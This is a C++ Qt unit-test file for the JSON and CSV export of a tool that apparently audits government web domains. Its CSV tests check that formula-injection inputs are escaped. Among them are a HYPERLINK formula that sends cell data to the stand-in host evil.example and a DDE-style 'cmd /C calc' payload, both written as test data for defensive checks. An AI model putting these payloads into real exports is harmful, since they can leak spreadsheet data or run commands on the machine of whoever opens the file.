// The JSON and CSV shapes of spec/interfaces.md (`findings`/`orgs --format json|csv`, findings.json).

#include "serialization.h"

#include <QJsonDocument>
#include <QTest>

using namespace Govscope::Models;

namespace {

Finding sampleFinding()
{
    Finding f;
    f.id = 17;
    f.org = u"A013"_qs;
    f.family = u"domain"_qs;
    f.check = u"domain.non_gov_uses_gov_suffix"_qs;
    f.severity = Severity::High;
    f.status = FindingStatus::FalsePositive;
    f.target = u"www.example.gov.cn"_qs;
    f.title = u"非政府单位使用 gov.cn, \"quoted\""_qs;
    f.firstSeen = QDateTime(QDate(2026, 11, 25), QTime(10, 0), Qt::UTC);
    f.lastSeen = QDateTime(QDate(2026, 11, 25), QTime(18, 30, 5), Qt::OffsetFromUTC, 8 * 3600);
    f.evidence = {{1, u"dns"_qs, u"A 记录指向 203.0.113.5"_qs, {}, {}},
                  {2, u"screenshot"_qs, u"首页"_qs, u"ab12"_qs, u"image/png"_qs}};
    return f;
}

QStringList sortedKeys(const QJsonObject &o)
{
    QStringList keys = o.keys();
    keys.sort();
    return keys;
}

} // namespace

class TestSerialization final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void findingJsonMatchesSpec()
    {
        const QJsonObject o = findingToJson(sampleFinding());
        QStringList expected{u"id"_qs,     u"org"_qs,   u"family"_qs,     u"check"_qs,     u"severity"_qs, u"status"_qs,
                             u"target"_qs, u"title"_qs, u"first_seen"_qs, u"last_seen"_qs, u"evidence"_qs};
        expected.sort();
        QCOMPARE(sortedKeys(o), expected);
        QVERIFY(o.value(u"id"_qs).isDouble());
        QCOMPARE(o.value(u"id"_qs).toInteger(), 17);
        QCOMPARE(o.value(u"severity"_qs).toString(), u"high"_qs);
        QCOMPARE(o.value(u"status"_qs).toString(), u"false_positive"_qs);
        QCOMPARE(o.value(u"check"_qs).toString(), u"domain.non_gov_uses_gov_suffix"_qs);
        QCOMPARE(o.value(u"first_seen"_qs).toString(), u"2026-11-25T10:00:00Z"_qs);
        QCOMPARE(o.value(u"last_seen"_qs).toString(), u"2026-11-25T10:30:05Z"_qs); // converted to UTC
        const QJsonArray evidence = o.value(u"evidence"_qs).toArray();
        QCOMPARE(evidence.size(), 2);
        QCOMPARE(sortedKeys(evidence.at(0).toObject()), (QStringList{u"kind"_qs, u"summary"_qs}));
        QCOMPARE(sortedKeys(evidence.at(1).toObject()),
                 (QStringList{u"kind"_qs, u"mime"_qs, u"sha256"_qs, u"summary"_qs}));
        QCOMPARE(evidence.at(1).toObject().value(u"sha256"_qs).toString(), u"ab12"_qs);
        // Chinese survives the trip through JSON text.
        const QByteArray text = QJsonDocument(o).toJson(QJsonDocument::Compact);
        QCOMPARE(QJsonDocument::fromJson(text).object().value(u"title"_qs).toString(), sampleFinding().title);
    }

    void orgJsonMatchesSpec()
    {
        Organization org{u"A001"_qs,
                         u"示例省人民政府办公厅"_qs,
                         OrgKind::PartyGov,
                         OrgLevel::Province,
                         OrgRole::Government,
                         u"510000"_qs,
                         {},
                         {u"https://www.example.gov.cn"_qs},
                         {u"example.gov.cn"_qs},
                         {},
                         {u"cn.gov.example.app"_qs},
                         {u"示例发布"_qs},
                         true};
        const QList<Asset> assets{
            {1, u"A001"_qs, AssetType::Website, u"https://www.example.gov.cn"_qs, AssetSource::Declared},
            {2, u"A001"_qs, AssetType::Host, u"old.example.gov.cn"_qs, AssetSource::Discovered}};
        const QJsonObject o = orgToJson(org, assets);
        QStringList expected{u"id"_qs,     u"name"_qs,     u"kind"_qs,       u"level"_qs,        u"role"_qs,
                             u"region"_qs, u"parent"_qs,   u"websites"_qs,   u"mail_domains"_qs, u"webmail"_qs,
                             u"apps"_qs,   u"accounts"_qs, u"authorized"_qs, u"assets"_qs};
        expected.sort();
        QCOMPARE(sortedKeys(o), expected);
        QCOMPARE(o.value(u"kind"_qs).toString(), u"party_gov"_qs);
        QCOMPARE(o.value(u"level"_qs).toString(), u"province"_qs);
        QCOMPARE(o.value(u"role"_qs).toString(), u"government"_qs);
        QVERIFY(o.value(u"authorized"_qs).isBool());
        QVERIFY(o.value(u"authorized"_qs).toBool());
        QVERIFY(o.value(u"webmail"_qs).isArray());
        QCOMPARE(o.value(u"parent"_qs).toString(), QString());
        QCOMPARE(o.value(u"accounts"_qs).toArray().at(0).toString(), u"示例发布"_qs);
        const QJsonObject host = o.value(u"assets"_qs).toArray().at(1).toObject();
        QCOMPARE(sortedKeys(host), (QStringList{u"source"_qs, u"type"_qs, u"value"_qs}));
        QCOMPARE(host.value(u"type"_qs).toString(), u"host"_qs);
        QCOMPARE(host.value(u"source"_qs).toString(), u"discovered"_qs);
    }

    void csvField_data()
    {
        QTest::addColumn<QString>("in");
        QTest::addColumn<QString>("out");
        QTest::addRow("plain") << u"abc"_qs << u"abc"_qs;
        QTest::addRow("chinese") << u"省政府"_qs << u"省政府"_qs;
        QTest::addRow("comma") << u"a,b"_qs << u"\"a,b\""_qs;
        QTest::addRow("quote") << u"say \"hi\""_qs << u"\"say \"\"hi\"\"\""_qs;
        QTest::addRow("newline") << u"a\nb"_qs << u"\"a\nb\""_qs;
        QTest::addRow("carriage return") << u"a\rb"_qs << u"\"a\rb\""_qs;
        QTest::addRow("empty") << QString() << QString();
        // Formula injection (OWASP "CSV Injection"): a leading = + - @ tab or CR makes a spreadsheet run
        // the cell; a leading single quote makes it text.
        QTest::addRow("hyperlink formula")
            << u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"_qs
            << u"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""_qs;
        QTest::addRow("plus") << u"+1+cmd|' /C calc'!A0"_qs << u"'+1+cmd|' /C calc'!A0"_qs;
        QTest::addRow("minus") << u"-2+3"_qs << u"'-2+3"_qs;
        QTest::addRow("at") << u"@SUM(1,2)"_qs << u"\"'@SUM(1,2)\""_qs;
        QTest::addRow("tab") << u"\t=1"_qs << u"'\t=1"_qs;
        QTest::addRow("leading carriage return") << u"\r=1"_qs << u"\"'\r=1\""_qs;
        QTest::addRow("equals inside") << u"a=b"_qs << u"a=b"_qs;
    }

    void csvField()
    {
        QFETCH(QString, in);
        QFETCH(QString, out);
        QCOMPARE(Govscope::Models::csvField(in), out);
    }

    void findingsCsv()
    {
        const QByteArray csv = findingsToCsv({sampleFinding()});
        const QList<QByteArray> lines = csv.split('\n');
        QCOMPARE(lines.at(0),
                 QByteArray("id,org,family,check,severity,status,target,title,first_seen,last_seen,evidence\r"));
        QVERIFY(csv.endsWith("\r\n"));
        const QString row = QString::fromUtf8(lines.at(1));
        QVERIFY(row.startsWith(u"17,A013,domain,domain.non_gov_uses_gov_suffix,high,false_positive,"_qs));
        QVERIFY(row.contains(u"\"非政府单位使用 gov.cn, \"\"quoted\"\"\""_qs));
        QVERIFY(row.contains(u"dns: A 记录指向 203.0.113.5 | screenshot: 首页"_qs));
        QCOMPARE(findingsToCsv({}).count('\n'), 1); // header only
    }

    void orgsCsvEscapesFormulas()
    {
        Organization o;
        o.id = u"=HYPERLINK(\"http://evil.example\")"_qs;
        o.name = u"@cmd"_qs;
        const QByteArray csv = orgsToCsv({o}, {});
        const QString row = QString::fromUtf8(csv.split('\n').value(1));
        QVERIFY2(row.startsWith(u"\"'=HYPERLINK("_qs), qPrintable(row));
        QVERIFY2(row.contains(u",'@cmd,"_qs), qPrintable(row));
    }
};

QTEST_GUILESS_MAIN(TestSerialization)
#include "tst_serialization.moc"
